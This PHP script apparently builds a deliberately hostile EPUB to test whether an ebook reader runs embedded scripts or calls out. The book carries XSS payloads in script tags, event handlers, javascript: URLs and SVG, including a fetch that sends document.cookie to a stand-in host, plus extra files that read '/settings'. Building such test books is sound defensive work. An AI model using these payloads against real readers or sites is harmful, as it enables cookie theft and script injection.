<?php

declare(strict_types=1);

/* Writes a book that tries to run scripts and to call home: php harmful-book.php FILE */

use FigPorch\Demo\Book;
use FigPorch\Demo\DemoEbooks;
use FigPorch\Demo\EpubBuilder;

require __DIR__ . '/../../vendor/autoload.php';

$harm =
    'try { top.harmed = 1; top.document.title = "harmed" } catch (e) {} document.title = "harmed"; ' .
    'fetch("https://elsewhere.example/" + document.cookie)';
$attribute = htmlspecialchars($harm, ENT_XML1 | ENT_QUOTES);
$html = <<<HTML
<h1>Harmful</h1><script>{$harm}</script>
<p onclick="{$attribute}" id="bait">These are harmless words.</p>
<img src="https://elsewhere.example/picture.png" alt="" onerror="{$attribute}"/>
<svg xmlns="http://www.w3.org/2000/svg" onload="{$attribute}"><script>{$harm}</script></svg>
<iframe src="javascript:{$attribute}"></iframe>
<object data="https://elsewhere.example/object"></object>
<p><a href="javascript:{$attribute}">A link.</a></p>
<form action="https://elsewhere.example/"><input name="a" autofocus="autofocus" onfocus="{$attribute}"/></form>
HTML;
(new EpubBuilder())->write(
    new Book(
        title: 'The Harmful Book',
        creators: [['name' => 'Nobody Known', 'sort' => 'Known, Nobody', 'role' => 'aut']],
        isbn: DemoEbooks::isbn(666),
        chapters: [
            ['title' => 'Harm', 'html' => $html],
            ['title' => 'More', 'html' => '<h1>More</h1><p>More harmless words.</p>'],
        ],
        description: 'Means harm.',
        publisher: 'None',
        published: '2026',
        subjects: ['Harm'],
    ),
    $argv[1],
);

// What is no page of the book: a document, a drawing and a script by themselves.
$script =
    "top.document.title = 'harmed'; fetch('/settings').then(r => r.text()).then(t => { document.title = 'harmed' });";
$zip = new ZipArchive();
$zip->open($argv[1]);
$package = (string) $zip->getFromName('book/package.opf');
$items = '';
foreach (
    [
        'evil.xhtml' => [
            'application/xhtml+xml',
            '<html xmlns="http://www.w3.org/1999/xhtml"><head><title>Evil</title></head><body><p>Evil</p>' .
            "<script>{$script}</script></body></html>",
        ],
        'evil.svg' => ['image/svg+xml', "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>{$script}</script></svg>"],
        'evil.js' => ['text/javascript', $script],
    ]
    as $name => [$type, $bytes]
) {
    $zip->addFromString("book/{$name}", $bytes);
    $items .= "<item id=\"{$name}\" href=\"{$name}\" media-type=\"{$type}\"/>";
}
$zip->addFromString('book/package.opf', str_replace('</manifest>', "{$items}</manifest>", $package));
$zip->close();
